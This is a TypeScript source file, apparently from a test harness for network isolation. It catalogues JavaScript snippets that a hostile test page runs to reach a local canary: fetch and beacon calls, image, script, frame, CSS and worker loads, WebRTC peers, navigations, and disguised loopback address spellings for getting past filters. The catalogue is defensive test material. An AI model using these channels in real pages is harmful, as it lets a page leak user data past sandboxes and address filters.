// Ways out of a page, as code that a hostile page runs. Each has a canary of its own, so that what arrives has a name.

import { networkInterfaces } from 'node:os';

export interface WayOut {
  name: string;
  /** Ways of one group are tried by one page. */
  group: string;
  /**
   * JavaScript with `url` (of the canary), `at` (its host and port), `port`; and of the page: `put`, `link`, `style`, `echo`, `hop`.
   */
  code: string;
  protocol?: 'udp';
  /** Address on which the canary listens, when it is not 127.0.0.1. */
  listen?: string;
  /** How the page spells that address. */
  host?: string;
  /** Nothing comes by it even where nothing is protected: tried all the same, and not counted. */
  isDead?: true;
}

type Table = Record<string, string>;

const requests: Table = {
  fetch: 'fetch(url)',
  'fetch-no-cors': "fetch(url, { mode: 'no-cors' })",
  'fetch-keepalive': "fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' })",
  'fetch-preflight': "fetch(url, { method: 'PUT', headers: { 'x-mark': '1' } })",
  'fetch-https': "fetch('https://' + at, { mode: 'no-cors' })",
  'fetch-later': 'fetchLater(url, { activateAfter: 0 })',
  xhr: "const x = new XMLHttpRequest(); x.open('GET', url); x.send()",
  'xhr-sync': "const x = new XMLHttpRequest(); x.open('GET', url, false); x.send()",
  beacon: "navigator.sendBeacon(url, 'x')",
  ping: "put('a', { href: location.href + '#', ping: url }).click()",
  'event-source': 'new EventSource(url)',
  websocket: "new WebSocket('ws://' + at)",
  'websocket-secure': "new WebSocket('wss://' + at)",
  'redirect-fetch': "fetch(hop(url), { mode: 'no-cors' })",
  'redirect-image': "put('img', { src: hop(url) })",
  'redirect-frame': "put('iframe', { src: hop(url) })",
  'redirect-script': "put('script', { src: hop(url) })",
};

const elements: Table = {
  image: "put('img', { src: url })",
  'image-set': "put('img', { srcset: url + ' 1x' })",
  picture: "put('picture', { innerHTML: '<source srcset=\"' + url + '\"><img alt=x>' })",
  'image-button': "put('input', { type: 'image', src: url })",
  'body-background': "document.body.setAttribute('background', url)",
  video: "put('video', { src: url, preload: 'auto' })",
  poster: "put('video', { poster: url })",
  audio: "put('audio', { src: url, preload: 'auto' })",
  track:
    "put('video', { crossOrigin: 'anonymous', src: echo('video/mp4', ''), innerHTML: '<track default kind=subtitles src=\"' + url + '\">' }).textTracks[0].mode = 'showing'",
  script: "put('script', { src: url })",
  'module-script': "put('script', { type: 'module', src: url })",
  'dynamic-import': 'import(url)',
  'json-import': "import(url, { with: { type: 'json' } })",
  'css-import': "import(url, { with: { type: 'css' } })",
  frame: "put('iframe', { src: url })",
  'frame-in-srcdoc': "put('iframe', { srcdoc: '<img src=\"' + url + '\">' })",
  'frame-sandboxed':
    "put('iframe', { sandbox: 'allow-scripts', srcdoc: '<script>fetch(\"' + url + '\")</' + 'script>' })",
  'frame-data': "put('iframe', { src: 'data:text/html,<img src=\"' + url + '\">' })",
  'frame-blob':
    "put('iframe', { src: URL.createObjectURL(new Blob(['<img src=\"' + url + '\">'], { type: 'text/html' })) })",
  'frame-javascript': "put('iframe', { src: 'javascript:\"<img src=' + url + '>\"' })",
  'frame-refresh': "put('iframe', { srcdoc: '<meta http-equiv=refresh content=\"0;url=' + url + '\">' })",
  'frame-refresh-header': "put('iframe', { src: echo('text/html', 'x', { refresh: '0;url=' + url }) })",
  'frame-location': "put('iframe', { srcdoc: '<script>location = \"' + url + '\"</' + 'script>' })",
  'frame-csp-report':
    "put('iframe', { src: echo('text/html', '<img src=/x>', { 'content-security-policy': \"img-src 'none'; report-uri \" + url }) })",
  frameset: "put('iframe', { srcdoc: '<frameset><frame src=\"' + url + '\"></frameset>' })",
  object: "put('object', { data: url })",
  embed: "put('embed', { src: url })",
  'svg-image': "put('div', { innerHTML: '<svg><image href=\"' + url + '\"/></svg>' })",
  'svg-filter-image': `put('div', { innerHTML: '<svg><filter id=f><feImage href="' + url + '"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>' })`,
  'svg-foreign-object':
    'put(\'iframe\', { src: echo(\'image/svg+xml\', \'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="\' + url + \'"/></foreignObject></svg>\') })',
  'svg-script':
    "put('iframe', { src: echo('image/svg+xml', '<svg xmlns=\"http://www.w3.org/2000/svg\"><script href=\"' + url + '\"/></svg>') })",
  'xml-stylesheet':
    "put('iframe', { src: echo('text/xml', '<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/css\" href=\"' + url + '\"?><x/>') })",
  'written-markup': "const d = put('iframe').contentDocument; d.write('<img src=\"' + url + '\">'); d.close()",
};

const styles: Table = {
  'style-link': "link('stylesheet', url)",
  'style-import': "style('@import url(' + url + ')')",
  'style-background': "style('#b1 { background: url(' + url + ') }'); put('div', { id: 'b1', textContent: 'x' })",
  'style-image-set':
    "style('#b2 { background: image-set(url(' + url + ') 1x) }'); put('div', { id: 'b2', textContent: 'x' })",
  'style-content': "style('#b3::before { content: url(' + url + ') }'); put('div', { id: 'b3', textContent: 'x' })",
  'style-mask': "style('#b4 { mask-image: url(' + url + ') }'); put('div', { id: 'b4', textContent: 'x' })",
  'style-border':
    "style('#b5 { border: 2px solid; border-image: url(' + url + ') 2 }'); put('div', { id: 'b5', textContent: 'x' })",
  'style-list':
    "style('#b6 { display: list-item; list-style: url(' + url + ') }'); put('div', { id: 'b6', textContent: 'x' })",
  'style-shape':
    "style('#b7 { float: left; shape-outside: url(' + url + ') }'); put('div', { id: 'b7', textContent: 'x' })",
  'style-cursor': "style('#b9 { cursor: url(' + url + '), auto }'); put('div', { id: 'b9', textContent: 'x' })",
  'style-font':
    "style('@font-face { font-family: f1; src: url(' + url + ') } #b0 { font-family: f1 }'); put('div', { id: 'b0', textContent: 'x' })",
  'style-print':
    "style('@media print { #c1 { background: url(' + url + ') } }'); put('div', { id: 'c1', textContent: 'x' })",
  'style-link-print': "link('stylesheet', url, { media: 'print' })",
  'font-face': "new FontFace('f2', 'url(' + url + ')').load()",
};

const hints: Table = {
  prefetch: "link('prefetch', url)",
  preload: "link('preload', url, { as: 'image' })",
  modulepreload: "link('modulepreload', url)",
  'speculation-prefetch': "rules({ prefetch: [{ source: 'list', urls: [url] }] })",
  'speculation-prerender': "rules({ prerender: [{ source: 'list', urls: [url] }] })",
};

const windows: Table = {
  'window-open': "open(url, 'w1')",
  'link-blank': "put('a', { href: url, target: '_blank', rel: 'opener' }).click()",
  'link-in-frame': "put('a', { href: url, target: put('iframe', { name: 'sink3' }).name }).click()",
  'window-blank-fetch': "open('about:blank', 'w2').fetch(url)",
};

const forms: Table = {
  'form-post':
    "const f = put('form', { method: 'post', action: url, target: put('iframe', { name: 'sink1' }).name }); f.submit()",
  'form-get': "const f = put('form', { action: url, target: put('iframe', { name: 'sink2' }).name }); f.submit()",
};

const workers: Table = {
  'worker-fetch': "new Worker(blob('fetch(\"' + url + '\")'))",
  'worker-import': "new Worker(blob('importScripts(\"' + url + '\")'))",
  'worker-module': "new Worker(blob('import \"' + url + '\"'), { type: 'module' })",
  'worker-websocket': "new Worker(blob('new WebSocket(\"ws://' + at + '\")'))",
  'worker-nested': "new Worker(blob('new Worker(\"data:text/javascript,fetch(`' + url + '`)\")'))",
  'shared-worker-fetch': "new SharedWorker(echo('text/javascript', 'fetch(\"' + url + '\")'))",
  'shared-worker-import': "new SharedWorker(echo('text/javascript', 'importScripts(\"' + url + '\")'))",
  'service-worker-fetch':
    "navigator.serviceWorker.register(echo('text/javascript', 'fetch(\"' + url + '\")', { 'service-worker-allowed': '/' }), { scope: '/s1' })",
  'service-worker-import':
    "navigator.serviceWorker.register(echo('text/javascript', 'importScripts(\"' + url + '\")', { 'service-worker-allowed': '/' }), { scope: '/s2' })",
  'audio-worklet': 'new AudioContext().audioWorklet.addModule(url)',
  'paint-worklet': 'CSS.paintWorklet.addModule(url)',
};

const dead: Table = {
  'svg-use': "put('div', { innerHTML: '<svg><use href=\"' + url + '#x\"/></svg>' })",
  'xml-transformation':
    "put('iframe', { src: echo('text/xml', '<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"' + url + '\"?><x/>') })",
  'style-filter': "style('#b8 { filter: url(' + url + '#f) }'); put('div', { id: 'b8', textContent: 'x' })",
  preconnect: "link('preconnect', url)",
  prerender: "link('prerender', url)",
  'dns-prefetch': "link('dns-prefetch', url)",
  icon: "link('icon', url)",
  manifest: "link('manifest', url)",
  attribution: "put('img', { attributionSrc: url })",
  'background-fetch':
    "navigator.serviceWorker.register(echo('text/javascript', '', { 'service-worker-allowed': '/' }), { scope: '/s3' }).then(async (r) => { await new Promise((d) => setTimeout(d, 300)); return r.backgroundFetch.fetch('b', [url]); })",
};

const peer = (
  server: string,
) => `const p = new RTCPeerConnection({ iceServers: [{ urls: ${server}, username: 'u', credential: 'c' }] });
  p.createDataChannel('x'); return p.createOffer().then((o) => p.setLocalDescription(o))`;
/** Two ends in one page: the other end's address is made to be the canary's. */
const candidate = (
  line: string,
) => `const a = new RTCPeerConnection(), b = new RTCPeerConnection(); a.createDataChannel('x');
  return a.createOffer().then((o) => a.setLocalDescription(o)).then(() => b.setRemoteDescription(a.localDescription))
    .then(() => b.createAnswer()).then((o) => b.setLocalDescription(o)).then(() => a.setRemoteDescription(b.localDescription))
    .then(() => a.addIceCandidate({ candidate: ${line}, sdpMid: '0', sdpMLineIndex: 0 }))`;

const sockets: Omit<WayOut, 'group'>[] = [
  { name: 'web-transport', protocol: 'udp', code: "new WebTransport('https://' + at)" },
  { name: 'webrtc-stun', protocol: 'udp', code: peer("'stun:' + at") },
  { name: 'webrtc-turn', protocol: 'udp', code: peer("'turn:' + at") },
  { name: 'webrtc-turn-tcp', code: peer("'turn:' + at + '?transport=tcp'") },
  { name: 'webrtc-turn-tls', code: peer("'turns:' + at + '?transport=tcp'") },
  {
    name: 'webrtc-peer',
    protocol: 'udp',
    code: candidate("'candidate:1 1 udp 2122260223 127.0.0.1 ' + port + ' typ host'"),
  },
  {
    name: 'webrtc-peer-tcp',
    code: candidate("'candidate:1 1 tcp 1518280447 127.0.0.1 ' + port + ' typ host tcptype passive'"),
  },
];

/** Each leads the whole page away, so each has a page of its own. */
const leaving: Table = {
  'leave-location': 'location.href = url',
  'leave-replace': 'location.replace(url)',
  'leave-link': "put('a', { href: url }).click()",
  'leave-download': "put('a', { href: url, download: 'x' }).click()",
  'leave-form': "put('form', { method: 'post', action: url }).submit()",
  'leave-refresh':
    "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=' + url + '\">')",
  'leave-navigation': 'navigation.navigate(url)',
  'leave-with-a-user': "location.href = url.replace('//', '//user:word@')",
  // These two are sent by the server: `hostile-pages.ts`.
  'leave-redirect': '',
  'leave-refresh-header': '',
};

/** Headers of the page itself, and what happens around printing; `hostile-pages.ts` sends the headers. */
const around: Table = {
  'header-link-preload': '',
  'header-csp-report':
    "style('@font-face { font-family: f9; src: url(/none) } #z0 { font-family: f9 }'); put('p', { id: 'z0', textContent: 'x' })",
  'before-print': "addEventListener('beforeprint', () => { fetch(url); put('img', { src: url }); })",
  'page-hide': "addEventListener('pagehide', () => navigator.sendBeacon(url))",
};

const addresses: [name: string, host: string, listen?: string][] = [
  ['localhost', 'localhost'],
  ['name below localhost', 'a.b.localhost'],
  ['localhost with a dot', 'localhost.'],
  ['127.0.0.2', '127.0.0.2', '127.0.0.2'],
  ['127.255.255.254', '127.255.255.254', '127.255.255.254'],
  ['0.0.0.0', '0.0.0.0', '0.0.0.0'],
  ['IPv4 in IPv6', '[::ffff:127.0.0.1]'],
  ['decimal', '2130706433'],
  ['hexadecimal', '0x7f000001'],
  ['octal', '0177.0.0.1'],
  ['short', '127.1'],
  ['full-width digits', '１２７.０.０.１'],
];

// What this machine has of its own: an address in its network, IPv6.
const interfaces = Object.values(networkInterfaces()).flatMap((each) => each ?? []);
const ownAddress = interfaces.find(({ family, internal }) => family === 'IPv4' && !internal)?.address;
if (ownAddress !== undefined) addresses.push(['own address', ownAddress, ownAddress]);
if (interfaces.some(({ address }) => address === '::1')) addresses.push(['IPv6 loopback', '[::1]', '::1']);

const listed = (group: string, table: Table, more: Partial<WayOut> = {}): WayOut[] =>
  Object.entries(table).map(([name, code]) => ({ name, code, group, ...more }));

export const waysOut: readonly WayOut[] = [
  ...Object.entries({ requests, elements, styles, hints, windows, forms, workers, around }).flatMap(([group, table]) =>
    listed(group, table),
  ),
  ...sockets.map((way) => ({ ...way, group: 'sockets' })),
  ...addresses.map(([name, host, listen]) => ({
    name: `address: ${name}`,
    group: 'addresses',
    host,
    ...(listen === undefined ? {} : { listen }),
    code: "put('img', { src: url })",
  })),
  ...listed('dead', dead, { isDead: true }),
  ...listed(
    'around',
    { 'header-link-preconnect': '', 'header-report-endpoint': '', 'header-network-errors': '', 'early-hints': '' },
    { isDead: true },
  ),
  ...Object.entries(leaving).map(([name, code]) => ({ name, code, group: name })),
];
